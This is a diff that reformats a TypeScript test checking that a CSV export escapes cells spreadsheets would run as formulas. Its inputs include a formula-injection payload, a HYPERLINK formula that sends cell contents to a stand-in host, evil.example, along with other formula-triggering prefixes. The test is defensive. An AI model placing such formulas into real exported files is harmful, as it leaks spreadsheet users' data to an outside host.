@@ -6,8 +6,22 @@ const cells = (csv: string) => Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), 
 
 describe('a list exported as CSV', () => {
   it('escapes every text a spreadsheet would run as a formula, and only those', () => {
-    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '@SUM(A1:A9)', '+1+2', '-2+3', '\t=1', '\r=1', '=1\n+2', 'Nusrat Jahan', 'a=b', 'Größe – সেবা'];
-    const csv = listCsv(['Name', 'Amount'], names.map((n, i) => [n, -i]));
+    const names = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      '@SUM(A1:A9)',
+      '+1+2',
+      '-2+3',
+      '\t=1',
+      '\r=1',
+      '=1\n+2',
+      'Nusrat Jahan',
+      'a=b',
+      'Größe – সেবা',
+    ];
+    const csv = listCsv(
+      ['Name', 'Amount'],
+      names.map((n, i) => [n, -i]),
+    );
     expect(csv.startsWith('\ufeff')).toBe(true);
     const [header, ...rows] = cells(csv);
     expect(header).toEqual(['Name', 'Amount']);
@@ -36,6 +50,8 @@ describe('a list exported as CSV', () => {
     expect(csvValue({ type: 'integer', 'x-ref': 'employee' }, 7, shown)).toBe('as shown');
     expect(csvValue({ type: 'integer', enum: [0, 1, 2, 3] }, 1, shown)).toBe('as shown');
     expect(csvValue({ type: 'string' }, null, shown)).toBe('');
-    expect(cells(listCsv(['Amount'], [[csvValue({ type: 'number' }, '1234567.25', shown)]]))[1]).toEqual(['1234567.25']);
+    expect(cells(listCsv(['Amount'], [[csvValue({ type: 'number' }, '1234567.25', shown)]]))[1]).toEqual([
+      '1234567.25',
+    ]);
   });
 });
